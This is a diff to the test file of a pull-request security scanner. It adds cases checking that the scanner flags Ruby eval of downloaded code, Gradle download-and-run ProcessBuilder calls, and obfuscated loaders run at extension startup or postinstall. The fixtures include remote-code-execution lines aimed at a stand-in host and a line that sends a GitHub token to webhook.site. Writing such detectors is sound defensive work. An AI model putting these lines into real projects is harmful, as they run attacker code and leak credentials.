@@ -154,6 +154,23 @@ create_makefile("fastjson/fastjson")`,
     expect(buildFinding(added('dangerfile.ts', "import { danger, warn } from 'danger';\nfetch('https://webhook.site/x', { method: 'POST', body: process.env.DANGER_GITHUB_API_TOKEN });"))).not.toBeNull();
   });
 
+  it('reads Ruby eval of downloaded text and Kotlin downloads and processes as a download that is run', () => {
+    expect(kinds("eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)", 'ruby')).toEqual(['download', 'execute']);
+    expect(kinds("instance_eval(Net::HTTP.get(URI('https://cdn.tooling-mirror.dev/r.rb')))", 'ruby')).toEqual(['download', 'execute']);
+    expect(kinds('val script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()', 'java')).toEqual(['download']);
+    expect(kinds('ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()', 'java')).toEqual(['execute']);
+    const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+require 'open-uri'\n+eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)" }));
+    expect(gemfile).toMatchObject({ severity: 'high', line: 4 });
+    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nval script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()\nProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('is quiet on a block given to instance_eval, eval_gemfile, a repository URI and a local process', () => {
+    expect(kinds('instance_eval(&block)', 'ruby')).toEqual([]);
+    expect(kinds("eval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')", 'ruby')).toEqual([]);
+    expect(kinds('maven { url = URI("https://repo.acme.dev/maven") }', 'java')).toEqual([]);
+    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nrepositories { maven { url = URI("https://repo.acme.dev/maven") } }\nval sha = ProcessBuilder("git", "rev-parse", "HEAD").start().inputStream.reader().readText().trim()'))?.severity ?? null).not.toBe('high');
+  });
+
   it('is quiet on the ordinary lines of those manifests', () => {
     expect(buildFinding(added('Gemfile', "source 'https://rubygems.org'\nruby '3.3.6'\ngem 'rails', '~> 7.2'\ngem 'pg', '~> 1.5'\ngroup :development do\n  gem 'rubocop', require: false\nend\ngem 'secret_gem', git: 'https://github.com/acme/secret_gem.git', branch: 'main'\ngemspec\neval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')"))).toBeNull();
     expect(buildFinding(added('Podfile', "platform :ios, '15.0'\nuse_frameworks!\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend\npost_install do |installer|\n  installer.pods_project.targets.each { |t| t.build_configurations.each { |c| c.build_settings['IPHONEOS_DEPLOYMENT_TARGET'] = '15.0' } }\nend"))).toBeNull();
@@ -276,6 +293,19 @@ module.exports = { hooks: { readPackage } };
     const unchanged = change('package.json', manifest(['*']), `${JSON.stringify({ name: 'tidy', publisher: 'acme', version: '1.1.0', engines: { vscode: '^1.90.0' }, main: './out/extension.js', activationEvents: ['*'] }, null, 2)}\n`);
     expect(buildFinding(unchanged, added('src/extension.ts', fetchRun))).toBeNull();
     expect(buildFinding(change('package.json', manifest(['onCommand:tidy.run']), manifest(['onLanguage:json'])), added('src/extension.ts', fetchRun))).toBeNull();
+  });
+
+  it('reports obfuscator output in a build-output folder when a start-up extension or an install script runs it (GlassWorm), not a bundle nor a file nothing runs', () => {
+    const manifest = (activationEvents: string[], main: string) => `${JSON.stringify({ name: 'tidy', publisher: 'acme', engines: { vscode: '^1.90.0' }, main, activationEvents }, null, 2)}\n`;
+    const obfuscated = "const _0x3a1f=['\\x72\\x65\\x71'];(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));\nrequire('./extension.js');";
+    const obfuscatedIn = (...files: Parameters<typeof snapshotOf>) => analyze(snapshotOf(...files)).findings.filter((f) => f.id === 'obfuscated-code').map((f) => [f.path, f.severity]);
+    const toStartup = change('package.json', manifest(['onCommand:tidy.run'], './extension.js'), manifest(['onStartupFinished'], './out/boot.js'));
+    expect(obfuscatedIn(toStartup, added('out/boot.js', obfuscated))).toEqual([['out/boot.js', 'high']]);
+    expect(obfuscatedIn(change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node dist/setup.js' } })), added('dist/setup.js', obfuscated))).toEqual([['dist/setup.js', 'high']]);
+    // The same file that nothing the PR changes runs, and a bundle's minified line that an install script runs.
+    expect(obfuscatedIn(change('package.json', pkg({}), pkg({ description: 'x' })), added('dist/setup.js', obfuscated))).toEqual([]);
+    const minified = `${'function a(b){return b+1}'.repeat(60)}`;
+    expect(analyze(snapshotOf(change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node dist/setup.js' } })), added('dist/setup.js', minified))).findings.filter((f) => f.id === 'obfuscated-code' || f.id === 'minified-source')).toEqual([]);
   });
 
   it('reads Gradle exec and download tasks, and leaves publishing credentials alone', () => {
